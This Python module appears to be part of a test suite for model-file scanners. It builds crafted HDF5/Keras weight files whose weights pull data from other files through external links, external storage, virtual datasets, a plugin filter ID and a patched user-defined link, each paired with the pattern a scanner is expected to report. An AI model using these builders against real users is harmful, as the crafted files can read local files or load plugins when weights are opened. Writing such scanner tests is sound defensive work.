"""Attacks by HDF5: what leads out of the file when its weights are read, and what only a plugin can read."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from attacks.attack import Attack, NotBuilt
from attacks.container_files import config, hdf5_model

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_PLUGIN = 32001
_LZF = 32000


def external_link(file: Any, canary: Path) -> None:
    """Adds a link into another file, below groups."""
    import h5py

    file["layers/hidden/kernel"] = h5py.ExternalLink(str(canary), "/secret")


def _model(change: Callable[[Any, Path], None]) -> Any:
    def write(folder: Path, canary: Path) -> Path:
        import h5py

        path = hdf5_model(folder / "model.h5", config())
        with h5py.File(path, "r+", libver=("earliest", "latest")) as file:
            change(file["model_weights"], canary)
        return path

    return write


def _link(group: Any, canary: Path) -> None:
    import h5py

    group["kernel"] = h5py.ExternalLink(str(canary), "/secret")


def _many_links(group: Any, canary: Path) -> None:
    """One among so many that the group keeps them in a heap."""
    import h5py

    for number in range(300):
        group[f"soft{number:03}"] = h5py.SoftLink("/model_weights")
    group["kernel"] = h5py.ExternalLink(str(canary), "/secret")


def _soft_link(group: Any, canary: Path) -> None:
    """A link to a link into another file."""
    import h5py

    group["kernel"] = h5py.SoftLink("/elsewhere/there")
    group.file["elsewhere/there"] = h5py.ExternalLink(str(canary), "/secret")


def _external(group: Any, canary: Path) -> None:
    group.create_dataset("kernel", (4,), "u1", external=[(str(canary), 0, 4)])


def _external_segments(group: Any, canary: Path) -> None:
    group.create_dataset("kernel", (8,), "u1", external=[("first", 0, 4), (str(canary), 0, 4)])


def _virtual(group: Any, canary: Path) -> None:
    _map(group, [str(canary)])


def _second_mapping(group: Any, canary: Path) -> None:
    """The first part lies in the file itself."""
    group.file["own"] = [1.0, 2.0]
    _map(group, [".", str(canary)])


def _hundredth_mapping(group: Any, canary: Path) -> None:
    group.file["own"] = [1.0, 2.0]
    _map(group, ["."] * 100 + [str(canary)])


def _map(group: Any, sources: list[str]) -> None:
    import h5py

    layout = h5py.VirtualLayout((len(sources), 2), "float64")
    for number, name in enumerate(sources):
        layout[number] = h5py.VirtualSource(name, "own", (2,))
    group.create_virtual_dataset("nested/kernel", layout)


def _plugin(group: Any, canary: Path) -> None:
    """A filter that HDF5 loads a library for, by its number."""
    import h5py
    from h5py import h5d, h5p, h5s, h5t, h5z

    del canary
    properties = h5p.create(h5p.DATASET_CREATE)
    properties.set_chunk((4,))
    properties.set_filter(_PLUGIN, h5z.FLAG_OPTIONAL, (1,))
    space = h5s.create_simple((4,))
    h5d.create(group.id, b"kernel", h5t.NATIVE_FLOAT, space, properties)
    assert h5py.version.hdf5_version


def _user_link(group: Any, canary: Path) -> None:
    """A link of a kind that only a program of its own resolves: the kind stands in the link's third byte."""
    import h5py

    group["kernel"] = h5py.ExternalLink(str(canary), "/secret")


def _user_defined(folder: Path, canary: Path) -> Path:
    path: Path = _model(_user_link)(folder, canary)
    data = path.read_bytes()
    at = data.rfind(b"kernel", 0, data.rfind(str(canary).encode()))
    start = data.rfind(b"\x01", 0, at)
    found = data.find(bytes([64]), start, at)
    path.write_bytes(data[:found] + bytes([99]) + data[found + 1 :])
    return path


def _attribute(group: Any, canary: Path) -> None:
    """In an object of a group far from the weights."""
    import h5py

    group.file.create_group("a/b/c/d/e/f")["g"] = h5py.ExternalLink(str(canary), "/secret")


ATTACKS: tuple[Attack, ...] = (
    Attack("hdf5-link", ("CVE-2026-1669: a link into another file (modelaudit: HDF5 external weight reference)",),
           "external link.*kernel", _model(_link)),
    Attack("hdf5-link-of-many", ("a link into another file, in a heap of links",), "external link.*kernel",
           _model(_many_links)),
    Attack("hdf5-link-to-link", ("a soft link to one into another file",), "external link.*there", _model(_soft_link)),
    Attack("hdf5-link-deep", ("a link into another file, in groups of no layer",), "external link.*a/b/c",
           _model(_attribute)),
    Attack("hdf5-external", ("CVE-2026-1669: values in another file",), "(?s)kernel.*canary", _model(_external)),
    Attack("hdf5-external-segments", ("values in several other files",), "(?s)kernel.*canary",
           _model(_external_segments)),
    Attack("hdf5-virtual", ("values put together from another file",), "(?s)kernel.*canary", _model(_virtual)),
    Attack("hdf5-second-mapping", ("values put together from the file itself and another",), "(?s)kernel.*canary",
           _model(_second_mapping)),
    Attack("hdf5-hundredth-mapping", ("the same with a hundred mappings before",), "(?s)kernel.*canary",
           _model(_hundredth_mapping)),
    Attack("hdf5-filter-plugin", ("values behind a filter that is a plugin of HDF5",), "kernel", _model(_plugin)),
    Attack("hdf5-user-link", ("a link of a kind that a plugin resolves",), "kernel", _user_defined),
)  # fmt: skip
NOT_BUILT: tuple[NotBuilt, ...] = (
    NotBuilt("HDF5: references to objects of other files", "HDF5 keeps them in values of a type of their own, which "
             "neither Keras nor h5py follows when weights are read"),
)  # fmt: skip
